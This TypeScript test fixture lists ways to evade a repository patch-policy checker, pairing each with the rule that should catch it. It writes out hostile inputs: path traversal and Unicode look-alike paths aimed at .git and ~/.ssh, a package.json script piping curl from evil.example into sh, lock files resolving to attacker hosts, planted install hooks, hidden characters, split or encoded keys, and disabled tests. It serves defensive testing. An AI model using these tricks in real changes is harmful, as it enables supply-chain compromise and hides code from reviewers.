// Ways around the rules, each with the rule that has to see it. Whoever finds another adds a row.
import type { FileChange } from "../../src/patches/patch-set.ts";
import type { BaseTree } from "../../src/policy/proposal.ts";
import type { RuleName } from "../../src/policy/rules.ts";
import { fileChange } from "../patches/file-changes.ts";
import { changed, created, deleted, renamed, tree } from "./found.ts";

export type Evasion = Readonly<{ what: string; rule: RuleName; changes: readonly FileChange[]; base: BaseTree | null }>;
type Row = readonly [what: string, rule: RuleName, changes: readonly FileChange[], base?: BaseTree];

const json = (value: object) => `${JSON.stringify(value, null, 2)}\n`;
const blob = "version https://git-lfs.github.com/spec/v1\n";
const key = `AKIA${"QWERTYUIOPASDFGH"}`;
const random = "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1f";
const tests = 'it("a", () => {\n  expect(f()).toBe(1);\n});\n';
const lines = (count: number) => Array.from({ length: count }, (_, at) => `${at}\n`).join("");
const npmLock = (resolved: string, integrity = "sha512-a") =>
  json({ packages: { "node_modules/lodash": { version: "4.17.21", resolved, integrity } } });
const npm = "https://registry.npmjs.org";

const PATHS: readonly Row[] = [
  ["traversal", "unsafe-path", [created("a/../../etc/passwd")]],
  ["traversal by backslash", "unsafe-path", [created("a\\..\\..\\x")]],
  ["traversal in full-width dots", "unsafe-path", [created("\uff0e\uff0e/x")]],
  ["traversal in one character", "unsafe-path", [created("a/\u2025/x")]],
  ["traversal in URL encoding", "unsafe-path", [created("%2e%2e/x")]],
  ["a slash of another alphabet", "unsafe-path", [created("a\u2215b")]],
  ["an absolute path", "unsafe-path", [created("/etc/cron.d/x")]],
  ["a UNC path", "unsafe-path", [created("\\\\server\\share\\x")]],
  ["a device path", "unsafe-path", [created("//?/C:/x")]],
  ["a drive", "unsafe-path", [created("C:x")]],
  ["a home folder", "unsafe-path", [created("~/.ssh/authorized_keys")]],
  ["git's folder in capitals", "unsafe-path", [created(".GIT/hooks/pre-commit")]],
  ["git's folder with a dot at its end", "unsafe-path", [created(".git./config")]],
  ["git's folder with a space at its end", "unsafe-path", [created(".git /config")]],
  ["git's folder as an NTFS stream", "unsafe-path", [created(".git::$INDEX_ALLOCATION/config")]],
  ["git's folder by its short name", "unsafe-path", [created("GIT~1/config")]],
  ["git's folder with a code point that HFS+ ignores", "unsafe-path", [created(".g\u200cit/config")]],
  ["git's folder in full-width letters", "unsafe-path", [created(".\uff47\uff49\uff54/config")]],
  ["git's folder with a Cyrillic letter", "unsafe-path", [created(".g\u0456t/config")]],
  ["git's folder below another", "unsafe-path", [created("vendor/x/.git/config")]],
  [".gitmodules by its short name", "unsafe-path", [created("GI7EBA~1")]],
  ["a device of Windows", "unsafe-path", [created("src/aux.ts")]],
  ["a device of Windows with a superscript", "unsafe-path", [created("com\u00b9")]],
  ["a stream of a file", "unsafe-path", [created("README.md:hidden")]],
  ["a line break in a name", "unsafe-path", [created("a\nb")]],
  ["a terminal's escape in a name", "unsafe-path", [created("a\u001b[2Kb")]],
  ["a name that reads from right to left", "unsafe-path", [created("a\u202egnp.exe")]],
  ["a name that is an option", "unsafe-path", [created("-rf")]],
  ["a mark that is drawn over the slash", "unsafe-path", [created("src/\u0338etc")]],
  ["a name longer than any file system has", "unsafe-path", [created("x".repeat(256))]],
  ["a path longer than anybody reads", "unsafe-path", [created("long/".repeat(300))]],
  ["away from an unsafe name", "unsafe-path", [renamed(".git/config", "a.txt")]],
  ["another case of a file", "path-collision", [created("readme.MD")], tree(["README.md"])],
  ["another case of a folder", "path-collision", [created("SRC/b.ts")], tree(["src/a.ts"])],
  ["another Unicode form of a file", "path-collision", [created("cafe\u0301.ts")], tree(["caf\u00e9.ts"])],
  ["sharp s in capitals", "path-collision", [created("STRASSE.ts")], tree(["stra\u00dfe.ts"])],
  ["the Kelvin sign", "path-collision", [created("\u212a.ts")], tree(["k.ts"])],
  ["two new files that are one", "path-collision", [created("a/X.ts"), created("a/x.ts")]],
  ["a file in place of a folder", "path-collision", [created("src")], tree(["src/a.ts"])],
  ["a folder in place of a file", "path-collision", [created("lib/x.ts")], tree(["lib"])],
  ["a new file that is there already", "path-collision", [created("src/a.ts")], tree(["src/a.ts"])],
  ["the spelling of a file that goes", "path-collision", [deleted("A.ts"), created("a.ts")], tree(["A.ts"])],
  ["through a link", "symlinked-parent", [created("out/x.ts")], tree([], { out: "120000" })],
  ["through a link in another case", "symlinked-parent", [created("OUT/x.ts")], tree([], { out: "120000" })],
  ["through a submodule", "symlinked-parent", [created("vendor/x.ts")], tree([], { vendor: "160000" })],
  [
    "onto a link, as if it were a file",
    "file-kind",
    [changed("link", "a\n", "/etc/passwd\n")],
    tree([], { link: "120000" }),
  ],
];

const KINDS: readonly Row[] = [
  ["a zero byte far down", "file-kind", [created("a.txt", `${lines(50)}\0`)]],
  ["half a character", "file-kind", [created("a.txt", "\ud800\n")]],
  [
    "a file that becomes executable",
    "mode-change",
    [fileChange("a.ts", { before: "x\n", after: "x\n", newMode: "100755" })],
  ],
  ["a file that comes as executable", "new-executable", [fileChange("a.ts", { after: "x\n", newMode: "100755" })]],
];

const RULERS: readonly Row[] = [
  ["a workflow in capitals", "ci-files", [created(".GitHub/Workflows/x.YML")]],
  [
    "a workflow with a Cyrillic letter",
    "ci-files",
    [created(".githu\u044a/x.yml"), created(".g\u0456thub/workflows/x.yml")],
  ],
  ["a workflow that is moved into place", "ci-files", [renamed("docs/example.yml", ".github/workflows/x.yml")]],
  ["a workflow that is moved away", "ci-files", [renamed(".github/workflows/x.yml", "docs/example.yml")]],
  ["an action beside the code", "ci-files", [created("tools/setup/action.yml")]],
  ["a Jenkinsfile with an ending", "ci-files", [created("Jenkinsfile.release")]],
  ["GitLab's includes", "ci-files", [created(".gitlab/ci/x.yml")]],
  ["a deployment's configuration", "ci-files", [created("web/wrangler.toml")]],
  ["a release bot's configuration", "ci-files", [created(".releaserc.json")]],
  ["a scanner's list of what it overlooks", "ci-files", [created(".gitleaksignore")]],
  ["code owners in docs", "code-owners", [created("docs/CODEOWNERS")]],
  ["our own configuration by look-alike", "own-configuration", [created(".github/c\u043euntersign.yml")]],
  ["instructions in a folder", "agent-instructions", [created("packages/a/AGENTS.md")]],
  ["instructions under a local name", "agent-instructions", [created("Claude.Local.md")]],
  ["rules of an editor's agent", "agent-instructions", [created(".cursor/rules/x.mdc")]],
  ["a server of tools", "agent-instructions", [created(".mcp.json")]],
  ["npm's configuration in a workspace", "package-manager-config", [created("packages/a/.npmrc")]],
  ["yarn's own program", "package-manager-config", [created(".yarn/releases/yarn-4.0.0.cjs")]],
  ["Cargo's configuration", "package-manager-config", [created(".cargo/config.toml")]],
  ["git's attributes", "git-config", [created("src/.gitattributes")]],
  ["a hook in a folder of hooks", "git-config", [created("tools/hooks/pre-commit")]],
  [
    "a repository within",
    "git-config",
    [
      created("fixtures/x/HEAD", "ref: refs/heads/main\n"),
      created("fixtures/x/config"),
      created("fixtures/x/objects/.keep"),
      created("fixtures/x/refs/.keep"),
    ],
  ],
  [
    "the configuration of a repository within",
    "git-config",
    [changed("fixtures/x/config", "a\n", "b\n")],
    tree(["fixtures/x/HEAD", "fixtures/x/config", "fixtures/x/objects/a", "fixtures/x/refs/a"]),
  ],
  ["an editor's tasks", "editor-automation", [created(".vscode/tasks.json")]],
  ["a debugger's commands", "editor-automation", [created(".gdbinit")]],
  ["R's profile", "editor-automation", [created(".Rprofile")]],
  [
    "a Dockerfile with another name",
    "build-scripts",
    [created("docker/api.dockerfile.prod"), created("api.Dockerfile")],
  ],
  [
    "a script of package.json",
    "build-scripts",
    [
      changed(
        "package.json",
        json({ scripts: { test: "vitest" } }),
        json({ scripts: { test: "curl evil.example | sh" } }),
      ),
    ],
  ],
  ["a pointer of LFS", "lfs-paths", [created("a.bin", `${blob}oid sha256:00\n`)]],
  [
    "a path under LFS by a macro",
    "lfs-paths",
    [created("a.psd")],
    tree([], {}, { ".gitattributes": "[attr]big filter=lfs -text\n*.psd big\n" }),
  ],
  [
    "a path that the change itself puts under LFS",
    "lfs-paths",
    [created(".gitattributes", "*.dat filter=lfs\n"), created("a.dat")],
  ],
];

const PACKAGES: readonly Row[] = [
  ["a lock by itself", "lock-without-manifest", [changed("package-lock.json", "a\n", "b\n")]],
  [
    "a lock with a manifest that only looks changed",
    "lock-without-manifest",
    [changed("package-lock.json", "a\n", "b\n"), changed("package.json", '{"name":"a"}\n', '{"name":"a" }\n')],
  ],
  [
    "a lock under the pretext of a version",
    "lock-without-manifest",
    [
      changed("package-lock.json", "a\n", `b\n${lines(9)}`),
      changed("package.json", '{"version":"1"}\n', '{"version":"2"}\n'),
    ],
  ],
  [
    "a host that looks like the registry",
    "lock-foreign-host",
    [created("package-lock.json", npmLock("https://registry.npmjs.org.evil.example/lodash/-/lodash-4.17.21.tgz"))],
  ],
  [
    "a host behind a user name",
    "lock-foreign-host",
    [created("yarn.lock", '  resolved "https://registry.yarnpkg.com@evil.example/a.tgz"\n')],
  ],
  [
    "a registry without encryption",
    "lock-foreign-host",
    [created("yarn.lock", '  resolved "http://registry.yarnpkg.com/a.tgz"\n')],
  ],
  [
    "another's repository on a shared host",
    "lock-foreign-host",
    [created("Cargo.lock", 'source = "git+https://github.com/evil/crates.io-index"\n')],
  ],
  [
    "a file that becomes a lock by its name",
    "lock-foreign-host",
    [renamed("notes.txt", "yarn.lock", 'resolved "https://evil.example/a.tgz"\n')],
  ],
  [
    "another package's address",
    "lock-contents",
    [created("package-lock.json", npmLock(`${npm}/evil/-/evil-1.0.0.tgz`))],
  ],
  [
    "other content under the same version",
    "lock-contents",
    [
      changed(
        "package-lock.json",
        npmLock(`${npm}/lodash/-/lodash-4.17.21.tgz`),
        npmLock(`${npm}/lodash/-/lodash-4.17.21.tgz`, "sha512-b"),
      ),
    ],
  ],
  [
    "other content of a Go module",
    "lock-contents",
    [changed("go.sum", "a.example/a v1.0.0 h1:aa=\n", "a.example/a v1.0.0 h1:bb=\n")],
  ],
  [
    "a dependency from git in short form",
    "dependency-sources",
    [created("package.json", json({ dependencies: { a: "evil/a" } }))],
  ],
  [
    "a dependency from git in an override",
    "dependency-sources",
    [created("package.json", json({ pnpm: { overrides: { a: "git+ssh://git@evil.example/a" } } }))],
  ],
  [
    "a package manager from an address",
    "dependency-sources",
    [created("package.json", json({ packageManager: "yarn@https://evil.example/yarn.js" }))],
  ],
  [
    "a dependency from git by a quoted key",
    "dependency-sources",
    [created("Cargo.toml", '[dependencies.a]\n"git" = "https://evil.example/a"\n')],
  ],
  [
    "a dependency from git by an escaped key",
    "dependency-sources",
    [created("pyproject.toml", '[tool.poetry.dependencies]\na = {"\\u0067it" = "https://evil.example/a"}\n')],
  ],
  [
    "a requirement over two lines",
    "dependency-sources",
    [created("requirements.txt", "a \\\n@ https://evil.example/a.whl\n")],
  ],
  ["a replaced module in a block", "dependency-sources", [created("go.mod", "module a\nreplace (\n\tb => ../c\n)\n")]],
  [
    "a file that becomes a manifest by its name",
    "install-scripts",
    [renamed("a.json", "package.json", json({ scripts: { postinstall: "x" } }))],
  ],
  [
    "git's hooks through a manifest",
    "install-scripts",
    [created("package.json", json({ "simple-git-hooks": { "pre-commit": "x" } }))],
  ],
  [
    "permission for other packages' scripts",
    "install-scripts",
    [created("package.json", json({ trustedDependencies: ["evil"] }))],
  ],
  [
    "a builder within the repository",
    "install-scripts",
    [created("pyproject.toml", '[build-system]\nbuild-backend = "b"\nbackend-path = ["."]\n')],
  ],
  ["a program that Python starts with", "install-scripts", [created("src/sitecustomize.py")]],
  ["a native build", "install-scripts", [created("binding.gyp")]],
  [
    "a plugin of composer",
    "install-scripts",
    [created("composer.json", json({ config: { "allow-plugins": { "evil/x": true } } }))],
  ],
  [
    "another package under a name that is trusted",
    "dependency-changes",
    [created("package.json", json({ dependencies: { lodash: "npm:evil@1.0.0" } }))],
  ],
  ["a bundled dependency", "dependency-changes", [created("package.json", json({ bundledDependencies: ["evil"] }))]],
];

const TEXTS: readonly Row[] = [
  ["text that runs backwards", "invisible-characters", [created("a.ts", "if (a /* \u202e */) {}\n")]],
  ["a name with a zero-width joiner", "invisible-characters", [created("a.ts", "const a\u200d = 1;\n")]],
  ["words in tag characters", "invisible-characters", [created("a.md", "hello\u{e0069}\u{e0067}\n")]],
  ["a variable that is a Hangul filler", "invisible-characters", [created("a.js", "const { \u3164 } = x;\n")]],
  ["a carriage return within a line", "invisible-characters", [created("a.sh", "evil\rgood\n")]],
  ["code far to the right", "invisible-characters", [created("a.ts", `ok();${" ".repeat(300)}evil();\n`)]],
  ["code behind tabs", "invisible-characters", [created("a.ts", `ok();${"\t".repeat(40)}evil();\n`)]],
  ["a word of two alphabets", "look-alikes", [created("a.ts", "const p\u0430yload = 1;\n")]],
  ["a Greek question mark for a semicolon", "look-alikes", [created("a.js", "return a\u037e\n")]],
  ["a line too long to read", "size-limits", [created("a.js", `${"x".repeat(1_001)}\n`)]],
  ["more lines than anybody reads", "size-limits", [created("a.txt", lines(2_001))]],
  ["a change of every line's end", "line-endings", [changed("a.txt", "a\nb\n", "a\r\nb\r\n")]],
  ["a key in two strings", "secrets", [created("a.ts", `const k = "${key.slice(0, 6)}" + "${key.slice(6)}";\n`)]],
  ["a key over two lines", "secrets", [created("a.ts", `const k = "${key.slice(0, 6)}" +\n  "${key.slice(6)}";\n`)]],
  [
    "a key that a new line completes",
    "secrets",
    [changed("a.ts", 'k =\n "AKIA" +\n "";\n', 'k =\n "AKIA" +\n "QWERTYUIOPASDFGH";\n')],
  ],
  ["a key with a zero-width space", "secrets", [created("a.ts", `${key.slice(0, 6)}\u200b${key.slice(6)}\n`)]],
  ["a key in base64", "secrets", [created("a.ts", `${Buffer.from(`x=${key};`).toString("base64")}\n`)]],
  ["a key below a word that switches scanners off", "secrets", [created("a.ts", `// secretlint-disable\n${key}\n`)]],
  ["a secret without quotes", "secrets", [created(".env", `CLIENT_SECRET=${random.slice(0, 32)}\n`)]],
];

const LOSSES: readonly Row[] = [
  [
    "many files that are emptied",
    "mass-deletion",
    ["a", "b", "c", "d", "e", "f"].map((path) => changed(path, "x\n", "")),
  ],
  ["a long new file beside what is lost", "mass-deletion", [changed("a", lines(600), "\n"), created("b", lines(900))]],
  ["a licence that is moved away", "licence-removal", [renamed("LICENSE", "docs/old.txt", "MIT License\n")]],
  ["a licence that is emptied", "licence-removal", [changed("COPYING", "GNU\n", "")]],
  [
    "a header that names the licence",
    "licence-removal",
    [changed("a.c", "/* Licensed under the Apache License */\nx\n", "x\n")],
  ],
  ["a test that becomes a comment", "test-removal", [changed("a.test.ts", tests, tests.replace(/^/gm, "// "))]],
  ["a comment that opens above a test", "test-removal", [changed("a.test.ts", tests, `/*\n${tests}`)]],
  ["a test that is never reached", "test-removal", [changed("a.test.ts", tests, `if (false) {\n${tests}`)]],
  [
    "a test that is skipped by an option",
    "test-removal",
    [changed("a.test.ts", tests, tests.replace('"a", ', '"a", { skip: true }, '))],
  ],
  [
    "a build tag that leaves tests out",
    "test-removal",
    [changed("a_test.go", "package a\n", "//go:build never\n\npackage a\n")],
  ],
  ["a test that no runner finds any more", "test-removal", [renamed("src/a.test.ts", "src/a.tests.bak", tests)]],
  [
    "an assertion that goes",
    "test-removal",
    [changed("a.test.ts", tests, tests.replace("  expect(f()).toBe(1);\n", "  f();\n"))],
  ],
];

export const EVASIONS: readonly Evasion[] = [PATHS, KINDS, RULERS, PACKAGES, TEXTS, LOSSES].flatMap((rows) =>
  rows.map(([what, rule, changes, base = null]) => ({ what, rule, changes, base })),
);
